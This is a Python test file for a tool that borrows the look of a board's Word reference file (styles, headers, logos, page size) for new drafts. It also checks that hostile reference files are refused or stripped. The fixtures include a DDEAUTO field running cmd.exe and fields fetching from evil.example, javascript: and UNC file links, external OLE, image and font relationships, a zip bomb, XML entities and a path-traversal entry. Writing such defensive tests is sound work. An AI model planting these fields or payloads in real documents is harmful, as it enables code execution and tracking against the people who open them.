"""A board's own Word file lends a draft its look, and is looked at before it is opened."""

import io
import zipfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import docx
import pytest
from docx.document import Document as WordDocument
from docx.enum.section import WD_ORIENT, WD_SECTION
from docx.enum.style import WD_STYLE_TYPE
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.shared import Inches, Twips
from docx.text.paragraph import Paragraph as WordParagraph
from helpers_docx import W, body_of, document_of, part_of, words_of
from lxml import etree
from sample_document import png, sample_document
from validators import audit_problems, sdk_problems
from word_invariants import invariants

from localplan.cli.app import run
from localplan.document.blocks import Document, Paragraph, Run
from localplan.document.docx import write_docx
from localplan.document.docx.package import SHIPPED
from localplan.document.docx.reference import ReferenceFileError, left_out

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
NS = f'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="{OFFICE}"'
ANSWER = Paragraph((Run("We share one."),))
MACROS = (
    b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    b"application/vnd.ms-word.document.macroEnabled.main+xml",
)


def _house(folder: Path, change: Callable[[WordDocument], None]) -> Path:
    """A board's own file: python-docx's usual one, changed."""
    theirs = docx.Document()
    change(theirs)
    path = folder / "house.docx"
    theirs.save(str(path))
    return path


def _drafted(path: Path, document: Document | None = None) -> bytes:
    made = write_docx(document or sample_document(), reference=path)
    assert invariants(made) == ()
    return made


def _said(made: bytes, story: str, kind: str) -> str:
    """The words of the header or footer that the body points at for a kind of page."""
    relations = etree.fromstring(part_of(made, "word/_rels/document.xml.rels"))
    target = next(r.get("Target") for r in relations if r.get("Id") == f"rId-{story}-{kind}")
    return words_of(etree.fromstring(part_of(made, f"word/{target}")))


def _logo(theirs: WordDocument) -> None:
    header = theirs.sections[0].header.paragraphs[0]
    header.add_run().add_picture(io.BytesIO(png()), height=Inches(0.4))
    header.add_run("Mesa house header")


def _repacked(path: Path, parts: dict[str, bytes]) -> None:
    """Write the Word file at `path` anew, with some parts of it replaced or added."""
    with zipfile.ZipFile(path) as package:
        kept = {name: package.read(name) for name in package.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in {**kept, **parts}.items():
            package.writestr(name, content)


def test_a_reference_file_of_the_board_lends_its_styles(tmp_path: Path) -> None:
    def change(theirs: WordDocument) -> None:
        theirs.styles["Heading 1"].font.name = "Georgia"

    made = _drafted(_house(tmp_path, change))
    styles = part_of(made, "word/styles.xml")
    assert b"Georgia" in styles
    assert b'w:styleId="TOC1"' in styles
    assert audit_problems(made, tmp_path) == []
    assert sdk_problems(made, tmp_path) == []


def test_a_header_with_a_logo_stays_and_the_draft_is_named_in_the_footer(tmp_path: Path) -> None:
    document = document_of(ANSWER, status="Working draft 7", fingerprint="ab12", watermark="DRAFT")
    made = _drafted(_house(tmp_path, _logo), document)
    assert _said(made, "header", "portrait") == "Mesa house header"
    assert _said(made, "footer", "portrait") == "Working draft 7 · Draft ab12\tPage 1 of 1"
    assert b'string="DRAFT"' in part_of(made, "word/board-header1.xml")
    assert part_of(made, "word/media/board-image1.png") == png()
    assert audit_problems(made, tmp_path) == []
    assert sdk_problems(made, tmp_path) == []


def test_a_footer_of_the_board_stays_and_gets_a_line_beneath(tmp_path: Path) -> None:
    def change(theirs: WordDocument) -> None:
        theirs.sections[0].footer.paragraphs[0].text = "123 Main Street"

    document = document_of(ANSWER, status="Working draft 7", fingerprint="ab12")
    made = _drafted(_house(tmp_path, change), document)
    assert _said(made, "header", "portrait").endswith("\tWorking draft 7")
    assert _said(made, "footer", "portrait") == "123 Main StreetDraft ab12 · Page 1 of 1"


def test_the_size_and_the_margins_of_the_paper_are_the_boards(tmp_path: Path) -> None:
    def change(theirs: WordDocument) -> None:
        section = theirs.sections[0]
        section.page_width, section.page_height = Twips(11906), Twips(16838)
        section.left_margin = section.right_margin = Twips(1000)

    body = body_of(_drafted(_house(tmp_path, change)))
    sizes = [(size.get(W + "w"), size.get(W + "h")) for size in body.iter(W + "pgSz")]
    assert sizes == [("11906", "16838"), ("16838", "11906"), ("11906", "16838")]
    widths = {str(width.get(W + "w")) for width in body.iter(W + "tblW")}
    assert {"9906", "14838"} <= widths


@pytest.mark.parametrize("width", [5000, 99_000])
def test_paper_that_no_plan_is_printed_on_is_not_taken_over(tmp_path: Path, width: int) -> None:
    def change(theirs: WordDocument) -> None:
        theirs.sections[0].page_width = Twips(width)

    body = body_of(_drafted(_house(tmp_path, change), document_of(ANSWER)))
    assert [size.get(W + "w") for size in body.iter(W + "pgSz")] == ["12240"]


def test_page_numbers_of_the_contents_stand_at_the_margin_of_the_paper(tmp_path: Path) -> None:
    def change(theirs: WordDocument) -> None:
        theirs.sections[0].left_margin = theirs.sections[0].right_margin = Twips(2000)

    styles = etree.fromstring(part_of(_drafted(_house(tmp_path, change)), "word/styles.xml"))
    found = styles.findall(f"{W}style[@{W}styleId='TOC1']/{W}pPr/{W}tabs/{W}tab")
    assert [tab.get(W + "pos") for tab in found] == ["8240"]


def test_a_last_page_on_its_side_does_not_turn_the_plan(tmp_path: Path) -> None:
    def change(theirs: WordDocument) -> None:
        section = theirs.add_section(WD_SECTION.NEW_PAGE)
        section.orientation = WD_ORIENT.LANDSCAPE
        section.page_width, section.page_height = section.page_height, section.page_width

    body = body_of(_drafted(_house(tmp_path, change), document_of(ANSWER)))
    assert [size.get(W + "orient") for size in body.iter(W + "pgSz")] == [None]


def test_first_left_and_right_pages_keep_their_own_headers(tmp_path: Path) -> None:
    def change(theirs: WordDocument) -> None:
        section = theirs.sections[0]
        section.different_first_page_header_footer = True
        theirs.settings.odd_and_even_pages_header_footer = True
        section.header.paragraphs[0].text = "Right"
        section.first_page_header.paragraphs[0].text = "First"
        section.even_page_header.paragraphs[0].text = "Left"

    made = _drafted(_house(tmp_path, change))
    said = [_said(made, "header", kind) for kind in ("portrait", "landscape", "cover", "even")]
    assert said == ["Right", "Right", "First", "Left"]
    assert b"evenAndOddHeaders" in part_of(made, "word/settings.xml")
    assert b'w:type="even"' in part_of(made, "word/document.xml")


def test_nothing_of_the_text_of_a_reference_file_comes_along(tmp_path: Path) -> None:
    def change(theirs: WordDocument) -> None:
        paragraph = theirs.add_paragraph("An old secret")
        theirs.add_comment(paragraph.runs, "A hushed remark", author="Quillon")
        theirs.core_properties.keywords = "hushed"

    made = _drafted(_house(tmp_path, change))
    with zipfile.ZipFile(io.BytesIO(made)) as package:
        whole = b"".join(package.read(name) for name in package.namelist())
    assert not any(word in whole for word in (b"old secret", b"hushed", b"Quillon"))


def test_headings_of_a_reference_file_do_not_count_beside_our_numbers(tmp_path: Path) -> None:
    def change(theirs: WordDocument) -> None:
        number = theirs.styles["Heading 1"].element.get_or_add_pPr().get_or_add_numPr()
        number.get_or_add_numId().val = 7

    made = _drafted(_house(tmp_path, change))
    assert b"numPr" not in part_of(made, "word/styles.xml")


def test_a_style_of_another_kind_with_one_of_our_names_steps_aside(tmp_path: Path) -> None:
    def change(theirs: WordDocument) -> None:
        theirs.styles.add_style("Lead", WD_STYLE_TYPE.CHARACTER)

    made = _drafted(_house(tmp_path, change), document_of(Paragraph((Run("x"),), "lead")))
    assert b'w:styleId="Lead-board"' in part_of(made, "word/styles.xml")


def test_a_draft_lends_its_look_without_its_old_status(tmp_path: Path) -> None:
    path = tmp_path / "draft.docx"
    path.write_bytes(write_docx(replace(sample_document(), draft_id="d-1", fingerprint="old1")))
    theirs = docx.Document(str(path))
    header = theirs.sections[0].header.paragraphs[0]
    header.add_run().add_picture(io.BytesIO(png()), height=Inches(0.4))
    theirs.save(str(path))
    new = replace(sample_document(), status="Working draft 8", draft_id="d-2", fingerprint="new2")
    made = _drafted(path, new)
    assert _said(made, "header", "portrait") == ""
    assert b"<w:drawing>" in part_of(made, "word/board-header-portrait.xml")
    assert "Draft new2" in _said(made, "footer", "portrait")
    assert "old1" not in _said(made, "footer", "portrait")
    assert part_of(made, "word/board-header-portrait.xml").count(b"<v:shape ") == 1


def test_an_unchanged_draft_as_reference_changes_nothing(tmp_path: Path) -> None:
    made = write_docx(replace(sample_document(), draft_id="d-1"))
    (tmp_path / "draft.docx").write_bytes(made)
    new = replace(sample_document(), status="Working draft 8", fingerprint="new2", draft_id="d-2")
    assert write_docx(new, reference=tmp_path / "draft.docx") == write_docx(new)


def test_naming_our_own_reference_file_changes_nothing() -> None:
    document = document_of(ANSWER)
    assert write_docx(document, reference=SHIPPED) == write_docx(document)


@pytest.mark.parametrize("content", [b"", b"not a zip", b"PK\x03\x04 cut off", png(), b"%PDF-1.7"])
def test_a_reference_file_that_is_no_word_file_is_refused_plainly(
    tmp_path: Path, content: bytes
) -> None:
    path = tmp_path / "house.docx"
    path.write_bytes(content)
    with pytest.raises(ReferenceFileError, match=r"house\.docx cannot be used"):
        write_docx(document_of(ANSWER), reference=path)


def test_a_reference_file_that_does_not_describe_its_pages_lends_its_styles(tmp_path: Path) -> None:
    def pageless(theirs: WordDocument) -> None:
        theirs.styles["Normal"].font.name = "Georgia"
        body = theirs.element.body
        body.remove(body.sectPr)

    made = _drafted(_house(tmp_path, pageless))
    assert b"Georgia" in part_of(made, "word/styles.xml")


def test_a_strict_file_is_refused_with_the_way_to_save_it(tmp_path: Path) -> None:
    usual = _house(tmp_path, lambda _: None)
    strict = tmp_path / "strict.docx"
    with zipfile.ZipFile(usual) as source, zipfile.ZipFile(strict, "w") as target:
        for name in source.namelist():
            content = source.read(name)
            target.writestr(
                name,
                content.replace(
                    b"http://schemas.openxmlformats.org/officeDocument/2006/relationships",
                    b"http://purl.oclc.org/ooxml/officeDocument/relationships",
                ),
            )
    with pytest.raises(ReferenceFileError, match=r"Strict Open XML.*\n.*Word Document \(.docx\)"):
        write_docx(document_of(ANSWER), reference=strict)


def test_a_reference_file_with_macros_is_refused(tmp_path: Path) -> None:
    path = _house(tmp_path, _logo)
    with zipfile.ZipFile(path) as package:
        kinds = package.read("[Content_Types].xml")
    _repacked(path, {"[Content_Types].xml": kinds.replace(*MACROS)})
    with pytest.raises(ReferenceFileError, match="macros"):
        write_docx(document_of(ANSWER), reference=path)


@pytest.mark.parametrize(
    ("name", "content", "why"),
    [
        ("word/media/bomb.bin", b"\0" * 60_000_000, "unpacks to far more"),
        ("word/styles.xml", b'<!DOCTYPE x [<!ENTITY y "z">]><x/>', "entities"),
        ("word/styles.xml", b"<w:styles", "damaged"),
        ("word/styles.xml", b"<x/>", "damaged"),
        ("word/theme/theme1.xml", b"<x", "damaged"),
        ("word/../../x", b"x", "outside the file"),
    ],
)
def test_a_hostile_or_damaged_reference_file_is_refused(
    tmp_path: Path, name: str, content: bytes, why: str
) -> None:
    path = _house(tmp_path, _logo)
    _repacked(path, {name: content})
    with pytest.raises(ReferenceFileError, match=why):
        write_docx(document_of(ANSWER), reference=path)


FIELDS = {
    "DDEAUTO": 'DDEAUTO c:\\\\windows\\\\cmd.exe "/k evil.example"',
    "INCLUDETEXT": 'INCLUDETEXT "//evil.example/share/a.docx"',
    "INCLUDEPICTURE": 'INCLUDEPICTURE "https://evil.example/pixel.png" \\d',
    "LINK": "LINK Excel.Sheet c:\\evil.example.xlsx",
    "MACROBUTTON": "MACROBUTTON evil.example",
    "QUOTE": "QUOTE 68 68 69 evil.example",
    "FILENAME": "FILENAME \\p evil.example",
}


def _field(header: WordParagraph, code: str, shown: str) -> None:
    """A field in the header as Word writes one, in five runs."""
    for kind, words in (("begin", ""), ("", code), ("separate", ""), ("text", shown), ("end", "")):
        run = header.add_run(words if kind == "text" else "")
        if kind in {"begin", "separate", "end"}:
            run.element.append(etree.fromstring(f'<w:fldChar {NS} w:fldCharType="{kind}"/>'))
        elif not kind:
            made = etree.SubElement(run.element, f"{W}instrText")
            made.text = words


def _with_field(code: str, shown: str) -> Callable[[WordDocument], None]:
    def change(theirs: WordDocument) -> None:
        header = theirs.sections[0].header.paragraphs[0]
        header.add_run("Mesa house header")
        _field(header, code, shown)

    return change


@pytest.mark.parametrize("name", FIELDS)
def test_a_field_that_fetches_or_runs_something_is_left_out_and_named(
    tmp_path: Path, name: str
) -> None:
    path = _house(tmp_path, _with_field(FIELDS[name], "evil.example"))
    made = _drafted(path, document_of(ANSWER))
    assert b"evil.example" not in whole(made)
    assert _said(made, "header", "portrait") == "Mesa house header"
    assert left_out(path) == (f"the field {name}",)


def test_a_simple_field_is_looked_at_too(tmp_path: Path) -> None:
    def change(theirs: WordDocument) -> None:
        header = theirs.sections[0].header.paragraphs[0]
        header.add_run("Mesa house header")
        _xml(header).append(
            etree.fromstring(f'<w:fldSimple {NS} w:instr="DDE evil.example"><w:r/></w:fldSimple>')
        )

    path = _house(tmp_path, change)
    assert b"evil.example" not in whole(_drafted(path, document_of(ANSWER)))
    assert left_out(path) == ("the field DDE",)


def test_a_field_inside_another_goes_alone(tmp_path: Path) -> None:
    def change(theirs: WordDocument) -> None:
        header = theirs.sections[0].header.paragraphs[0]
        _field(header, "PAGE", "1")
        code = header.runs[1].element
        inner = theirs.sections[0].header.add_paragraph()
        _field(inner, "DDEAUTO evil.example", "x")
        for each in reversed(list(_xml(inner))):
            code.addnext(each)

    path = _house(tmp_path, change)
    made = _drafted(path, document_of(ANSWER))
    assert b"evil.example" not in whole(made)
    assert b"PAGE" in part_of(made, "word/board-header1.xml")


def test_page_numbers_and_web_links_stay(tmp_path: Path) -> None:
    def change(theirs: WordDocument) -> None:
        header = theirs.sections[0].header.paragraphs[0]
        header.add_run("Page ")
        _field(header, "PAGE", "1")
        _linked(header, "https://board.example", "our site")

    path = _house(tmp_path, change)
    made = _drafted(path, document_of(ANSWER))
    assert _said(made, "header", "portrait") == "Page 1our site"
    assert b"https://board.example" in whole(made)
    assert left_out(path) == ()


@pytest.mark.parametrize("address", ["javascript:evil.example()", "file:///\\\\evil.example\\a"])
def test_a_link_that_is_no_web_address_leaves_its_words(tmp_path: Path, address: str) -> None:
    def change(theirs: WordDocument) -> None:
        _linked(theirs.sections[0].header.paragraphs[0], address, "our site")

    path = _house(tmp_path, change)
    made = _drafted(path, document_of(ANSWER))
    assert _said(made, "header", "portrait") == "our site"
    assert b"evil.example" not in whole(made)
    assert left_out(path) == ("links that are no web or mail address",)


VML = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
OUTSIDE = {
    "picture": '<w:pict><v:shape id="s"><v:imagedata r:id="{}"/></v:shape></w:pict>',
    "object": '<w:object><o:OLEObject Type="Link" r:id="{}"/></w:object>',
    "shape": '<w:pict><v:shape id="s" href="javascript:evil.example"/><v:rect r:id="{}"/></w:pict>',
}


@pytest.mark.parametrize("kind", OUTSIDE)
def test_what_lies_outside_the_file_is_left_out_and_said(tmp_path: Path, kind: str) -> None:
    def change(theirs: WordDocument) -> None:
        header = theirs.sections[0].header
        header.paragraphs[0].add_run("Mesa house header")
        name = header.part.relate_to("https://evil.example/p.png", RT.IMAGE, is_external=True)
        made = f"<w:r {NS} {VML}>{OUTSIDE[kind].format(name)}</w:r>"
        _xml(header.paragraphs[0]).append(etree.fromstring(made))

    path = _house(tmp_path, change)
    made = _drafted(path, document_of(ANSWER))
    assert b"evil.example" not in whole(made)
    assert _said(made, "header", "portrait") == "Mesa house header"
    assert left_out(path)


def test_a_font_that_lies_outside_the_file_is_left_out(tmp_path: Path) -> None:
    path = _house(tmp_path, _logo)
    with zipfile.ZipFile(path) as package:
        fonts = etree.fromstring(package.read("word/fontTable.xml"))
    fonts[0].append(etree.fromstring(f'<w:embedRegular {NS} r:id="rId1"/>'))
    related = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{OFFICE}/font" Target="https://evil.example/f.odttf" '
        'TargetMode="External"/></Relationships>'
    )
    parts = {"word/fontTable.xml": etree.tostring(fonts)}
    _repacked(path, {**parts, "word/_rels/fontTable.xml.rels": related.encode()})
    made = _drafted(path, document_of(ANSWER))
    assert b"evil.example" not in whole(made)
    assert b"embedRegular" not in part_of(made, "word/fontTable.xml")
    assert left_out(path) == ("fonts that lie outside the file",)


def test_who_drafts_is_told_what_was_left_out(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    answers = tmp_path / "answers.yaml"
    answers.write_text("board: {name: Valley Board}\n", encoding="utf-8")
    path = _house(tmp_path, _with_field(FIELDS["DDEAUTO"], "x"))
    assert run(["draft", str(answers), "--reference", str(path)]) == 0
    assert "Left out of the look of house.docx: the field DDEAUTO." in capsys.readouterr().out


def test_a_public_draft_lends_its_look_without_its_old_status(tmp_path: Path) -> None:
    path = _house(tmp_path, _logo)
    old = document_of(ANSWER, stage="public", status="Draft for review", draft_id="d-1")
    lent = tmp_path / "lent.docx"
    lent.write_bytes(_drafted(path, old))
    new = document_of(ANSWER, stage="public", status="Draft of May", draft_id="d-2")
    made = _drafted(lent, new)
    assert b"Draft for review" not in whole(made)
    assert _said(made, "header", "portrait") == "Mesa house header"


def _xml(paragraph: WordParagraph) -> etree._Element:
    """The paragraph as an element, with a run in it."""
    found = paragraph.add_run("").element.getparent()
    assert found is not None
    return found


def _linked(paragraph: WordParagraph, address: str, words: str) -> None:
    name = paragraph.part.relate_to(address, RT.HYPERLINK, is_external=True)
    made = f'<w:hyperlink {NS} r:id="{name}"><w:r><w:t>{words}</w:t></w:r></w:hyperlink>'
    _xml(paragraph).append(etree.fromstring(made))


def whole(made: bytes) -> bytes:
    """Every part of a Word file behind one another."""
    with zipfile.ZipFile(io.BytesIO(made)) as package:
        return b"".join(package.read(name) for name in package.namelist())
